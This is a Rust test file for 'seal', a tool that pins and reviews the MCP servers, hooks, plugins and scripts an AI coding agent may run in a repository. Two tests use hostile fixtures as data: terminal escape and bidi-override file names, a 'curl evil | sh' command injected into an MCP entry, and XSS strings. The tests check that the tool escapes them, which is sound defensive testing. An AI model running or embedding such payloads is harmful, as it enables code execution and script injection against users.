        ".factory/mcp.json",
        r#"{"mcpServers": {"s": {"command": "mark-factory-mcp"}}}"#,
    ),
    (
        ".factory-plugin",
        ".factory-plugin/plugin.json",
        r#"{"name": "p", "mcpServers": {"s": {"command": "mark-factory-plugin"}}}"#,
    ),
    (
        ".cline/hooks",
        ".cline/hooks/mark-cline-hook",
        "#!/bin/sh\necho {}\n",
    ),
    (
        ".cline/plugins",
        ".cline/plugins/mark-cline-plugin.js",
        "export default {}\n",
    ),
    (
        "kilo.json",
        "kilo.json",
        r#"{"mcp": {"s": {"type": "local", "command": ["mark-kjs-config"]}}}"#,
    ),
    (
        "kilo.jsonc",
        "kilo.jsonc",
        r#"{"plugin": ["mark-kjs-plugin"]}"#,
    ),
];

/// The marker each fixture's entry carries.
fn marker(fixture: &(&str, &str, &str)) -> String {
    let (_, path, text) = fixture;
    let found = |s: &str| {
        s.find("mark-").map(|at| {
            s[at..]
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || *c == '-')
                .collect::<String>()
        })
    };
    found(text)
        .or_else(|| found(path))
        .unwrap_or_else(|| panic!("no marker in {path}"))
}

#[test]
fn init_and_pin_list_the_commands_of_every_mcp_hook_and_plugin_format_of_the_surface_table() {
    // Every such row of the table has a fixture: a new row fails here.
    let words = [
        "mcp",
        "hooks",
        "settings",
        "plugin",
        "config.toml",
        "opencode.json",
        "kilo.json",
        "tools",
        "extensions",
    ];
    // Rows whose name holds such a word by chance: nothing in them names a
    // program (Aider's model settings are prompt text and request
    // parameters).
    let nothing_runs = [".aider.model.settings.yml"];
    for row in seal_gate::surfaces::PROJECT_ROWS {
        if words.iter().any(|w| row.pattern.contains(w)) && !nothing_runs.contains(&row.pattern) {
            assert!(
                FORMATS
                    .iter()
                    .any(|(pattern, _, _)| *pattern == row.pattern),
                "no fixture for the surface row {}",
                row.pattern
            );
        }
    }
    let r = Repo::bare();
    r.git(&["init", "-q", "."]);
    for (_, path, text) in FORMATS {
        r.write(path, text);
    }
    // Scripts: a shebang, an executable bit.
    r.write(".claude/skills/s/SKILL.md", "Run the scripts.\n")
        .write(".claude/skills/s/go", "#!/usr/bin/env mark-shebang\n")
        .write(".claude/skills/s/mark-executable", "\x7fELF")
        .executable(".claude/skills/s/mark-executable");
    let mut markers: Vec<String> = FORMATS.iter().map(marker).collect();
    markers.extend(["mark-shebang".to_string(), "mark-executable".to_string()]);

    // init: on stderr before the question, and in the --json plan.
    let out = r.seal(&["init"], "n\n");
    assert_eq!(out.code, 2, "{}", out.stderr);
    let list = lets_run_list(&out.stderr);
    for m in &markers {
        let lines = list.lines().filter(|l| l.contains(m.as_str())).count();
        assert_eq!(lines, 1, "{m} in init's list:\n{list}");
    }
    let plan = r.seal(&["init", "--dry-run", "--json"], "");
    assert_eq!(plan.code, 0, "{}", plan.stderr);
    assert!(!plan.stderr.contains("[y/N]"), "{}", plan.stderr);
    let doc: serde_json::Value = serde_json::from_str(&plan.stdout).unwrap();
    assert_eq!(doc["command"], "init");
    assert_eq!(doc["dryRun"], true);
    let runs: Vec<String> = doc["bundles"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|b| b["letsRun"].as_array().unwrap().clone())
        .map(|r| r.to_string())
        .collect();
    for m in &markers {
        assert!(
            runs.iter().any(|r| r.contains(m.as_str())),
            "{m} in the plan: {runs:#?}"
        );
    }
    assert!(!r.path("seal.json").exists(), "a dry run writes nothing");

    // pin: after every file changes (its marker with a `-v2`), what it
    // lets run now, the new entries marked against the approved bytes in
    // history.
    r.init();
    r.commit("approve");
    for (_, path, text) in FORMATS {
        let changed = text.replacen("mark-", "mark-v2-", 1);
        let changed = if changed == *text {
            format!("{text}\n// changed\n")
        } else {
            changed
        };
        r.write(path, changed);
    }
    r.write(".claude/skills/s/go", "#!/usr/bin/env mark-v2-shebang\n");
    let out = r.seal(&["pin"], "n\n");
    assert_eq!(out.code, 2, "{}", out.stderr);
    let list = lets_run_list(&out.stderr);
    for fixture in FORMATS {
        let m = marker(fixture);
        let line = list
            .lines()
            .find(|l| l.contains(&m.replacen("mark-", "mark-v2-", 1)) || l.contains(&m))
            .unwrap_or_else(|| panic!("{m} in pin's list:\n{list}"));
        if fixture.2.contains("mark-") {
            // Its command changed: not approved before.
            assert!(line.starts_with("  new: "), "{line}");
        } else {
            // Named by its path, which did not change.
            assert!(!line.starts_with("  new: "), "{line}");
        }
    }
    assert!(
        list.contains("  new: script in .claude/skills/s/go: loads #!/usr/bin/env mark-v2-shebang"),
        "{list}"
    );
    // The executable did not change: listed, not new.
    assert!(
        list.contains("  script in .claude/skills/s/mark-executable: loads an executable file\n"),
        "{list}"
    );
}

#[test]
fn pin_summarises_each_changed_file_against_history_and_diff_shows_the_diffs() {
    let (r, approved) = history_repo();
    let short = &approved[..12];
    change_every_way(&r);
    let out = r.seal(&["pin"], "n\n");
    assert_eq!(out.code, 2);
    assert_eq!(
        before_question(&out.stderr),
        "  ~ modified  ./.claude/skills/rev  (4 files)\n\
         \x20   modified  SKILL.md  (+1 -1 lines)\n\
         \x20   removed   gone.md  (-2 lines)\n\
         \x20   modified  logo.png  (binary, 14 -> 15 bytes)\n\
         \x20   renamed   old-name.md -> new-name.md  (content unchanged)\n\
         \x20   added     run.sh  (+2 lines)\n\
         \n1 unchanged\n\n\
         What this approval lets run (1, 1 not approved before):\n\
         \x20 new: script in .claude/skills/rev/run.sh: loads #!/bin/sh\n\n\
         Apply these pin changes"
    );
    // --diff: the diffs, from the approved bytes in history, as seal diff
    // shows them.
    let out = r.seal(&["pin", "--diff"], "n\n");
    assert!(
        out.stderr.contains(
            "    modified  SKILL.md  (+1 -1 lines)\n--- a/.claude/skills/rev/SKILL.md\n+++ \
             b/.claude/skills/rev/SKILL.md\n@@ -1,3 +1,3 @@\n line1\n-line2\n+LINE2\n line3\n    \
             removed   gone.md  (-2 lines)\n--- a/.claude/skills/rev/gone.md\n+++ /dev/null\n"
        ),
        "{}",
        out.stderr
    );
    let diff = r.seal(&["diff"], "");
    assert!(
        diff.stdout.contains(&format!(
            "  modified  SKILL.md  (+1 -1 lines; approved bytes from commit {short})\n--- \
             a/.claude/skills/rev/SKILL.md\n+++ b/.claude/skills/rev/SKILL.md\n@@ -1,3 +1,3 @@\n \
             line1\n-line2\n+LINE2\n line3\n"
        )),
        "{}",
        diff.stdout
    );
    // The same plan as JSON, with the commit of the approved bytes.
    let out = r.seal(&["pin", "--json", "--dry-run", "--diff"], "");
    assert_eq!(out.code, 0, "{}", out.stderr);
    let doc: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(doc["command"], "pin");
    assert_eq!(doc["unchanged"], 1);
    assert_eq!(doc["history"]["source"], "git");
    let bundle = &doc["bundles"][0];
    assert_eq!(bundle["key"], "./.claude/skills/rev");
    assert_eq!(bundle["change"], "modified");
    assert_eq!(bundle["fileCount"], 4);
    let skill = bundle["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"] == "SKILL.md")
        .unwrap();
    assert_eq!(skill["approved"]["commit"], approved.as_str());
    assert_eq!(
        (skill["linesAdded"].clone(), skill["linesRemoved"].clone()),
        (1.into(), 1.into())
    );
    assert!(skill["diff"].as_str().unwrap().contains("-line2\n+LINE2\n"));
    assert_eq!(bundle["letsRun"][0]["kind"], "script");
    assert_eq!(bundle["letsRun"][0]["new"], true);
    // Without --diff, the counts only.
    let out = r.seal(&["pin", "--json", "--dry-run"], "");
    let doc: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert!(doc["bundles"][0]["files"][0].get("diff").is_none(), "{doc}");
}

#[test]
fn a_bundle_of_many_files_lists_the_first_twenty_and_v_lists_them_all() {
    let r = Repo::bare();
    for i in 0..25 {
        r.write(&format!(".claude/skills/big/f{i:02}.md"), "x\n");
    }
    let out = r.seal(&["init"], "n\n");
    assert!(
        out.stderr.contains(
            "    added     f19.md  (+1 lines)\n    ... and 5 more files: -v lists them all\n"
        ),
        "{}",
        out.stderr
    );
    assert!(!out.stderr.contains("f20.md"), "{}", out.stderr);
    let out = r.seal(&["init", "-v"], "n\n");
    assert!(
        out.stderr.contains("    added     f24.md  (+1 lines)\n"),
        "{}",
        out.stderr
    );
    assert!(!out.stderr.contains("more files"), "{}", out.stderr);
}

#[test]
fn json_prints_the_plan_before_the_question_and_the_answer_still_decides() {
    let r = Repo::bare();
    r.write(".mcp.json", r#"{"mcpServers": {"s": {"command": "srv"}}}"#);
    // Declined: the plan is the one document on stdout; exit 2, nothing
    // written.
    let out = r.seal(&["init", "--json"], "n\n");
    assert_eq!(out.code, 2, "{}", out.stderr);
    let doc: serde_json::Value = serde_json::from_str(&out.stdout)
        .unwrap_or_else(|e| panic!("one document ({e}): {}", out.stdout));
    assert_eq!(doc["dryRun"], false);
    assert_eq!(doc["bundles"][0]["letsRun"][0]["target"]["value"], "srv");
    assert!(
        out.stderr.ends_with("[y/N] seal: init aborted\n"),
        "{}",
        out.stderr
    );
    assert!(!r.path("seal.json").exists());
    // Accepted: written.
    let out = r.seal(&["init", "--json"], "y\n");
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(r.path("seal.json").exists());
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&out.stdout).unwrap()["command"],
        "init"
    );
    // Nothing to pin: the document says so, nothing is asked.
    let out = r.seal(&["pin", "--json"], "");
    assert_eq!(out.code, 0);
    let doc: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    assert_eq!(doc["bundles"], serde_json::json!([]));
    assert_eq!(doc["unchanged"], 1);
    assert!(out.stderr.ends_with("No changes\n"), "{}", out.stderr);
    // A dry run reads no answer and writes nothing, whatever stdin holds.
    r.write(
        ".mcp.json",
        r#"{"mcpServers": {"s": {"command": "other"}}}"#,
    );
    let before = std::fs::read(r.path("seal.json")).unwrap();
    let out = r.seal(&["pin", "--dry-run"], "y\n");
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(out.stdout, "");
    assert!(!out.stderr.contains("[y/N]"), "{}", out.stderr);
    assert!(
        out.stderr
            .ends_with("runs other\n\nDry run: nothing was asked and nothing written\n"),
        "{}",
        out.stderr
    );
    assert_eq!(std::fs::read(r.path("seal.json")).unwrap(), before);
}

#[test]
fn pin_and_init_show_hostile_names_and_contents_escaped() {
    let (r, _) = history_repo();
    let name = "evil\u{1b}[2J\u{202e}gnp.sh";
    r.write(
        &format!(".claude/skills/rev/{name}"),
        "#!/bin/sh \u{1b}]0;pwned\u{7}\nok\n",
    )
    .write(
        ".claude/skills/rev/SKILL.md",
        "line1\n\u{9b}31m\u{202e}\nline3\n",
    )
    .write(
        ".mcp.json",
        "{\"mcpServers\": {\"x\\u001b[2J\": {\"command\": \"evil\\u202e\", \"args\": [\"\\n\"]}}}",
    );
    let check = |out: &Out| {
        for raw in ['\u{1b}', '\u{202e}', '\u{9b}', '\u{7}'] {
            assert!(
                !out.stderr.contains(raw),
                "{raw:?} reached the terminal: {}",
                out.stderr
            );
        }
    };
    for args in [&["pin"][..], &["pin", "--diff"], &["pin", "-v", "--diff"]] {
        let out = r.seal(args, "n\n");
        assert_eq!(out.code, 2, "{}", out.stderr);
        check(&out);
        assert!(
            out.stderr
                .contains("    added     evil\\u{001b}[2J\\u{202e}gnp.sh  (+2 lines)\n"),
            "{}",
            out.stderr
        );
        assert!(
            out.stderr
                .contains("  MCP server x\\u{001b}[2J in .mcp.json: runs 'evil\\u{202e}' '\\n'\n"),
            "{}",
            out.stderr
        );
        assert!(
            out.stderr.contains(
                "  new: script in .claude/skills/rev/evil\\u{001b}[2J\\u{202e}gnp.sh: loads \
                 #!/bin/sh \\u{001b}]0;pwned\\u{0007}\n"
            ),
            "{}",
            out.stderr
        );
    }
    let out = r.seal(&["pin", "--diff"], "n\n");
    assert!(
        out.stderr.contains("+\\u{009b}31m\\u{202e}\n"),
        "{}",
        out.stderr
    );
    // The JSON plan carries them exactly.
    let out = r.seal(&["pin", "--json", "--dry-run"], "");
    check(&out);
    let doc: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
    let text = doc.to_string();
    assert!(text.contains("evil\\u001b[2J\u{202e}gnp.sh"), "{text}");
    // init too.
    r.remove("seal.json");
    let out = r.seal(&["init"], "n\n");
    check(&out);
    assert!(
        out.stderr.contains("MCP server x\\u{001b}[2J in .mcp.json"),
        "{}",
        out.stderr
    );
}

// ---------------------------------------------------------------------------
// seal diff --base: what a change approves (a pull request's review)
// ---------------------------------------------------------------------------

/// `history_repo`, then a change that re-pins a modified skill, approves a
/// new `.mcp.json`, withdraws a removed bundle and turns the policy to
/// warn, committed: (repo, the approving commit, the change's commit).
fn approval_change() -> (Repo, String, String) {
    let (r, approved) = history_repo();
    r.write(".claude/skills/rev/SKILL.md", "line1\nLINE2\nline3\n")
        .write(
            ".mcp.json",
            r#"{"mcpServers": {"helper": {"command": "evil", "args": ["--all"]}}}"#,
        )
        .remove(".claude/skills/done");
    let out = r.seal(&["pin", "--prune"], "y\n");
    assert_eq!(out.code, 0, "{}", out.stderr);
    let lock = std::fs::read_to_string(r.path("seal.json")).unwrap();
    assert!(lock.contains("\"policy\": \"block\""), "{lock}");
    r.write(
        "seal.json",
        lock.replace("\"policy\": \"block\"", "\"policy\": \"warn\""),
    );
    let change = r.commit("the change");
    (r, approved, change)
}

#[test]
fn diff_base_shows_what_the_change_approves_and_what_that_lets_run() {
    let (r, approved, _) = approval_change();
    let short = &approved[..12];
    let out = r.seal(&["diff", "--base", &approved], "");
    assert_eq!(out.code, 0, "verified now: {}", out.stderr);
    assert_eq!(
        out.stdout,
        format!(
            "Approval changes against {approved} (commit {short}):\n\
             \x20 policy: block -> warn\n\
             \x20 + discovery pattern .mcp.json\n\
             \x20 - removed   ./.claude/skills/done\n\
             \x20 ~ modified  ./.claude/skills/rev  (4 files)\n\
             \x20   modified  SKILL.md  (+1 -1 lines)\n\
             --- a/.claude/skills/rev/SKILL.md\n\
             +++ b/.claude/skills/rev/SKILL.md\n\
             @@ -1,3 +1,3 @@\n\
             \x20line1\n\
             -line2\n\
             +LINE2\n\
             \x20line3\n\
             \x20 + new       ./.mcp.json  (1 files)\n\
             \x20   added     .mcp.json  (+1 lines)\n\
             --- /dev/null\n\
             +++ b/.mcp.json\n\
             @@ -0,0 +1 @@\n\
             +{{\"mcpServers\": {{\"helper\": {{\"command\": \"evil\", \"args\": [\"--all\"]}}}}}}\n\
             \\ No newline at end of file\n\
             \n\
             What this approval lets run (1):\n\
             \x20 MCP server helper in .mcp.json: runs evil --all\n\n"
        )
    );
    // The same as JSON, and as Markdown.
    let (_, doc) = r.json(&["diff", "--base", &approved, "--json"]);
    let a = &doc["approval"];
    assert_eq!(a["base"]["commit"], approved.as_str());
    assert_eq!(a["base"]["lockfile"], "present");
    assert_eq!(
        a["policy"],
        serde_json::json!({"from": "block", "to": "warn"})
    );
    assert_eq!(a["patternsAdded"], serde_json::json!([".mcp.json"]));
    let changes: Vec<(&str, &str)> = a["bundles"]
        .as_array()
        .unwrap()
        .iter()
        .map(|b| (b["key"].as_str().unwrap(), b["change"].as_str().unwrap()))
        .collect();
    assert_eq!(
        changes,
        [
            ("./.claude/skills/done", "removed"),
            ("./.claude/skills/rev", "modified"),
            ("./.mcp.json", "new")
        ]
    );
    let md = r.seal(&["diff", "--base", &approved, "--format", "markdown"], "");
    assert_eq!(md.code, 0, "{}", md.stderr);
    assert_eq!(
        md.stdout,
        format!(
            "### seal: what this change approves\n\n\
             Against `seal.json` at `{approved}` (commit `{short}`).\n\n\
             **Policy:** `block` → `warn`\n\n\
             **Discovery patterns added:** `.mcp.json`\n\n\
             #### Approval withdrawn: `./.claude/skills/done`\n\n\
             #### Approval changed: `./.claude/skills/rev` (4 files)\n\n\
             - modified `SKILL.md` (+1 -1 lines)\n\n\
             Lets run: no MCP server, hook, plugin, command or script was found.\n\n\
             #### New approval: `./.mcp.json` (1 files)\n\n\
             - added `.mcp.json` (+1 lines)\n\n\
             **Lets run (1):**\n\n\
             - **MCP server** `helper` in `.mcp.json`: runs `evil --all`\n\n\
             **Result:** Verified (warn mode)\n"
        )
    );
}

#[test]
fn diff_base_against_a_base_without_seal_json_or_a_revision_that_is_not_there() {
    let r = Repo::bare();
    r.git(&["init", "-q", "."]);
    r.write("README.md", "hello\n");
    let before = r.commit("before seal");
    r.write(".claude/skills/a/SKILL.md", "a\n");
    r.init();
    r.commit("seal");
    let (code, doc) = r.json(&["diff", "--base", &before, "--json"]);
    assert_eq!(code, 0);
    assert_eq!(doc["approval"]["base"]["lockfile"], "missing");
    assert_eq!(
        doc["approval"]["policy"],
        serde_json::json!({"to": "block"})
    );
    assert_eq!(doc["approval"]["bundles"][0]["change"], "new");
    let out = r.seal(&["diff", "--base", &before], "");
    assert!(
        out.stdout
            .contains("  seal.json is new: the base has none\n  policy: none -> block\n"),
        "{}",
        out.stdout
    );
    // The same seal.json: nothing changes.
    let out = r.seal(&["diff", "--base", "HEAD"], "");
    assert!(
        out.stdout
            .ends_with(": none (seal.json approves what it approved there)\n\n"),
        "{}",
        out.stdout
    );
    // Not a commit here, or an option in disguise: exit 2, said why.
    let out = r.seal(
        &["diff", "--base", "0123456789012345678901234567890123456789"],
        "",
    );
    assert_eq!(out.code, 2);
    assert!(out.stderr.contains("no such commit"), "{}", out.stderr);
    let out = r.seal(&["diff", "--base=--output=/tmp/x"], "");
    assert_eq!(out.code, 2);
    assert!(out.stderr.contains("not a revision"), "{}", out.stderr);
    let md = r.seal(&["diff", "--base", "nope", "--format", "markdown"], "");
    assert_eq!(md.code, 2);
    assert!(
        md.stdout.starts_with("### seal failed (exit 2)\n\n`"),
        "{}",
        md.stdout
    );
    // Without git: --base cannot be.
    r.remove(".git");
    let out = r.seal(&["diff", "--base", "HEAD"], "");
    assert_eq!(out.code, 2);
    assert!(
        out.stderr
            .contains("--base needs the project's git history"),
        "{}",
        out.stderr
    );
}

/// A Markdown line with its code spans taken out (CommonMark's rule: a run
/// of backticks opens a span closed by the next run of the same length);
/// an unclosed run stays, as Markdown shows it.
fn outside_code_spans(line: &str) -> String {
    let chars: Vec<char> = line.chars().collect();
    let mut out = String::new();
    let mut i = 0;
    while i < chars.len() {
        if chars[i] != '`' {
            out.push(chars[i]);
            i += 1;
            continue;
        }
        let run = chars[i..].iter().take_while(|c| **c == '`').count();
        let mut j = i + run;
        let mut closed = None;
        while j < chars.len() {
            if chars[j] == '`' {
                let other = chars[j..].iter().take_while(|c| **c == '`').count();
                if other == run {
                    closed = Some(j + other);
                    break;
                }
                j += other;
            } else {
                j += 1;
            }
        }
        match closed {
            Some(end) => i = end,
            None => {
                out.extend(&chars[i..i + run]);
                i += run;
            }
        }
    }
    out
}

#[test]
fn the_markdown_summary_keeps_hostile_names_and_commands_in_their_code_spans() {
    let r = Repo::bare();
    r.git(&["init", "-q", "."]);
    r.write(".claude/skills/ok/SKILL.md", "ok\n");
    r.init();
    let base = r.commit("base");
    let names = [
        "a`b``c",
        "x<img src=x onerror=alert(1)>",
        "*bold* [link](evil.example) | cell",
        " `edge` ",
    ];
    for name in names {
        r.write(&format!(".claude/skills/{name}/SKILL.md"), "hi\n");
    }
    r.write(
        ".mcp.json",
        "{\"mcpServers\": {\"x\\n### forged heading\": {\"command\": \"``; curl evil | sh; ``\"}, \
         \"y\": {\"url\": \"<script>alert(1)</script>\"}}}",
    );
    let out = r.seal(&["pin"], "y\n");
    assert_eq!(out.code, 0, "{}", out.stderr);
    r.commit("change");
    let md = r.seal(&["diff", "--base", &base, "--format", "markdown"], "");
    assert_eq!(md.code, 0, "{}", md.stderr);
    for line in md.stdout.lines() {
        let rest = outside_code_spans(line);
        assert!(
            !rest.contains('`') && !rest.contains('<') && !rest.contains("forged"),
            "outside a code span in {line:?}: {rest:?}"
        );
        assert!(
            !line.starts_with("#") || line.starts_with("### seal") || line.starts_with("#### "),
            "{line:?}"
        );
    }
    for name in names {
        let key = format!("./.claude/skills/{name}");
        let span = md
            .stdout
            .lines()
            .find(|l| l.starts_with("#### New approval: ") && l.contains(&key))
            .unwrap_or_else(|| panic!("{key} in:\n{}", md.stdout));
        assert!(span.ends_with("(1 files)"), "{span}");
    }
    assert!(
        md.stdout.contains("runs ``` ``; curl evil | sh; `` ```"),
        "{}",
        md.stdout
    );
    assert!(
        md.stdout
            .contains("- **MCP server** `x\\n### forged heading` in `.mcp.json`"),
        "{}",
        md.stdout
    );
}
